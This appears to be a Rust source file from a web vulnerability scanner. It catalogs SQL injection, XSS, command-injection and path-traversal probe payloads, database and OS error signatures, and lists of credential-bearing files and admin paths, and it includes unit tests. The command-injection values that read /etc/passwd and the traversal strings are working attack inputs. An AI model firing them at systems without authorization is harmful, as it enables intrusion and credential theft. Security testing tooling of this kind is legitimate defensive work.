// src/scan/payloads.rs
//
// Probe payload and signature catalogs. All payloads are crafted for
// read-only GET probing; nothing here mutates remote state.

/// SQL injection probe payloads. Error-based and boolean shapes only.
pub const SQLI_PAYLOADS: &[&str] = &[
    "'",
    "\"",
    "''",
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "' OR 1=1--",
    "' OR 1=1#",
    "') OR ('1'='1",
    "1' AND '1'='2",
    "1 UNION SELECT NULL--",
    "1' UNION SELECT NULL,NULL--",
];

/// Vendor-specific database error signatures, matched case-insensitively
/// against response bodies.
pub const SQL_ERROR_SIGNATURES: &[&str] = &[
    // MySQL / MariaDB
    "you have an error in your sql syntax",
    "warning: mysql",
    "mysql_fetch_array()",
    "mysql_num_rows()",
    "supplied argument is not a valid mysql",
    "mariadb server version",
    // PostgreSQL
    "pg_query()",
    "postgresql error",
    "syntax error at or near",
    "unterminated quoted string at or near",
    // Microsoft SQL Server
    "unclosed quotation mark after the character string",
    "microsoft ole db provider for sql server",
    "odbc sql server driver",
    "incorrect syntax near",
    // Oracle
    "ora-00933",
    "ora-01756",
    "ora-00921",
    "quoted string not properly terminated",
    // SQLite
    "sqlite3.operationalerror",
    "sqlite_error",
    "unrecognized token",
];

/// XSS probe payloads, checked for verbatim unescaped reflection.
pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "\"><script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "'\"><svg/onload=alert(1)>",
    "<body onload=alert('XSS')>",
];

/// Command injection payload plus whether detection is timing-based.
pub struct CommandPayload {
    pub payload: &'static str,
    pub timed: bool,
}

pub const COMMAND_PAYLOADS: &[CommandPayload] = &[
    CommandPayload { payload: "; id", timed: false },
    CommandPayload { payload: "| id", timed: false },
    CommandPayload { payload: "& whoami", timed: false },
    CommandPayload { payload: "; cat /etc/passwd", timed: false },
    CommandPayload { payload: "`id`", timed: false },
    CommandPayload { payload: "$(id)", timed: false },
    CommandPayload { payload: "; sleep 5", timed: true },
    CommandPayload { payload: "| sleep 5", timed: true },
];

/// OS-identity strings in a response body that betray command execution.
pub const OS_IDENTITY_SIGNATURES: &[&str] = &[
    "uid=",
    "gid=",
    "groups=",
    "root:x:0:0",
    "/bin/bash",
    "/bin/sh",
    "nt authority\\system",
    "volume serial number",
    "directory of c:\\",
];

/// Directory traversal payloads: plain, URL-encoded, double-encoded and
/// filter-evasion variants for both Unix and Windows targets.
pub const TRAVERSAL_PAYLOADS: &[&str] = &[
    "../../etc/passwd",
    "../../../etc/passwd",
    "../../../../etc/passwd",
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "/etc/passwd",
];

/// Operating-system file signatures required as traversal evidence.
pub const OS_FILE_SIGNATURES: &[&str] = &[
    "root:x:0:0",
    "daemon:x:",
    "nobody:x:",
    "/bin/false",
    "[boot loader]",
    "[fonts]",
    "for 16-bit app support",
];

/// A well-known sensitive path and whether the file type typically
/// carries credentials (which elevates finding severity).
pub struct SensitivePath {
    pub path: &'static str,
    pub description: &'static str,
    pub credential_bearing: bool,
}

pub const SENSITIVE_PATHS: &[SensitivePath] = &[
    SensitivePath { path: ".env", description: "environment configuration", credential_bearing: true },
    SensitivePath { path: ".env.local", description: "environment configuration", credential_bearing: true },
    SensitivePath { path: ".env.backup", description: "environment configuration backup", credential_bearing: true },
    SensitivePath { path: ".git/config", description: "git repository metadata", credential_bearing: true },
    SensitivePath { path: ".git/HEAD", description: "git repository metadata", credential_bearing: false },
    SensitivePath { path: ".svn/entries", description: "subversion metadata", credential_bearing: false },
    SensitivePath { path: ".htaccess", description: "apache configuration", credential_bearing: false },
    SensitivePath { path: ".htpasswd", description: "apache credential file", credential_bearing: true },
    SensitivePath { path: "web.config", description: "IIS configuration", credential_bearing: true },
    SensitivePath { path: "config.php", description: "application configuration", credential_bearing: true },
    SensitivePath { path: "wp-config.php", description: "WordPress configuration", credential_bearing: true },
    SensitivePath { path: "configuration.php", description: "Joomla configuration", credential_bearing: true },
    SensitivePath { path: "config.json", description: "application configuration", credential_bearing: true },
    SensitivePath { path: "settings.py", description: "Django settings", credential_bearing: true },
    SensitivePath { path: "database.yml", description: "Rails database configuration", credential_bearing: true },
    SensitivePath { path: "db.sqlite3", description: "SQLite database", credential_bearing: true },
    SensitivePath { path: "dump.sql", description: "database dump", credential_bearing: true },
    SensitivePath { path: "backup.sql", description: "database dump", credential_bearing: true },
    SensitivePath { path: "id_rsa", description: "private SSH key", credential_bearing: true },
    SensitivePath { path: ".ssh/id_rsa", description: "private SSH key", credential_bearing: true },
    SensitivePath { path: "error.log", description: "server log", credential_bearing: false },
    SensitivePath { path: "debug.log", description: "server log", credential_bearing: false },
    SensitivePath { path: "access.log", description: "server log", credential_bearing: false },
    SensitivePath { path: "composer.json", description: "dependency manifest", credential_bearing: false },
    SensitivePath { path: "composer.lock", description: "dependency manifest", credential_bearing: false },
    SensitivePath { path: "package.json", description: "dependency manifest", credential_bearing: false },
    SensitivePath { path: "yarn.lock", description: "dependency manifest", credential_bearing: false },
    SensitivePath { path: "requirements.txt", description: "dependency manifest", credential_bearing: false },
    SensitivePath { path: "Gemfile.lock", description: "dependency manifest", credential_bearing: false },
    SensitivePath { path: "phpinfo.php", description: "PHP diagnostics page", credential_bearing: false },
    SensitivePath { path: "info.php", description: "PHP diagnostics page", credential_bearing: false },
    SensitivePath { path: "server-status", description: "apache status page", credential_bearing: false },
    SensitivePath { path: "crossdomain.xml", description: "cross-domain policy", credential_bearing: false },
    SensitivePath { path: "docker-compose.yml", description: "container configuration", credential_bearing: true },
    SensitivePath { path: ".DS_Store", description: "directory listing artifact", credential_bearing: false },
];

/// Subdirectories the sensitive-path catalog is replayed under.
pub const COMMON_SUBDIRS: &[&str] = &["", "backup/", "old/", "config/", "app/"];

/// Generic base names combined with backup extensions.
pub const BACKUP_BASENAMES: &[&str] = &["backup", "site", "www", "web", "database", "db", "dump"];

pub const BACKUP_EXTENSIONS: &[&str] = &[
    ".zip", ".tar.gz", ".tgz", ".rar", ".7z", ".sql", ".sql.gz", ".bak", ".old", ".backup",
];

/// Common administrative paths probed for panel/login detection.
pub const ADMIN_PATHS: &[&str] = &[
    "admin",
    "admin/",
    "admin/login",
    "admin.php",
    "admin/dashboard",
    "administrator",
    "wp-admin/",
    "wp-login.php",
    "login",
    "login.php",
    "signin",
    "user/login",
    "cpanel",
    "phpmyadmin/",
    "dashboard",
    "manage",
    "console",
    "backend",
    "controlpanel",
];

/// Content keywords marking a login page.
pub const LOGIN_KEYWORDS: &[&str] = &[
    "type=\"password\"",
    "type='password'",
    "sign in",
    "log in",
    "username",
    "forgot password",
];

/// Content keywords marking an administrative interface.
pub const ADMIN_KEYWORDS: &[&str] = &[
    "admin panel",
    "administration",
    "control panel",
    "dashboard",
    "site manager",
];

/// Fallback parameter names probed when extraction discovered none.
pub const DEFAULT_PARAMETERS: &[&str] = &["id", "q", "search", "page", "cat"];

/// Generate candidate backup filenames for a host:
/// {domain-derived names ∪ generic names} × {backup extensions}.
pub fn backup_candidates(host: &str) -> Vec<String> {
    let host = host.trim_start_matches("www.");
    let mut basenames: Vec<String> = Vec::new();
    basenames.push(host.to_string());
    if let Some(stem) = host.split('.').next() {
        if !stem.is_empty() && stem != host {
            basenames.push(stem.to_string());
        }
    }
    for name in BACKUP_BASENAMES {
        if !basenames.iter().any(|b| b == name) {
            basenames.push((*name).to_string());
        }
    }

    let mut candidates = Vec::with_capacity(basenames.len() * BACKUP_EXTENSIONS.len());
    for base in &basenames {
        for ext in BACKUP_EXTENSIONS {
            candidates.push(format!("{}{}", base, ext));
        }
    }
    candidates
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn backup_candidates_combine_domain_and_generic_names() {
        let candidates = backup_candidates("www.example.com");
        assert!(candidates.contains(&"example.com.zip".to_string()));
        assert!(candidates.contains(&"example.sql".to_string()));
        assert!(candidates.contains(&"backup.tar.gz".to_string()));
        assert_eq!(
            candidates.len(),
            (2 + BACKUP_BASENAMES.len()) * BACKUP_EXTENSIONS.len()
        );
    }

    #[test]
    fn no_payload_is_state_changing() {
        // Read-only invariant: probe payloads must not carry write verbs.
        for payload in SQLI_PAYLOADS {
            let upper = payload.to_uppercase();
            for verb in ["INSERT", "UPDATE", "DELETE", "DROP", "TRUNCATE"] {
                assert!(!upper.contains(verb), "{payload}");
            }
        }
    }

    #[test]
    fn credential_paths_are_flagged() {
        let env = SENSITIVE_PATHS.iter().find(|p| p.path == ".env").unwrap();
        assert!(env.credential_bearing);
        let log = SENSITIVE_PATHS
            .iter()
            .find(|p| p.path == "error.log")
            .unwrap();
        assert!(!log.credential_bearing);
    }

    #[test]
    fn timed_command_payloads_sleep_only() {
        for cmd in COMMAND_PAYLOADS.iter().filter(|c| c.timed) {
            assert!(cmd.payload.contains("sleep"));
        }
    }
}
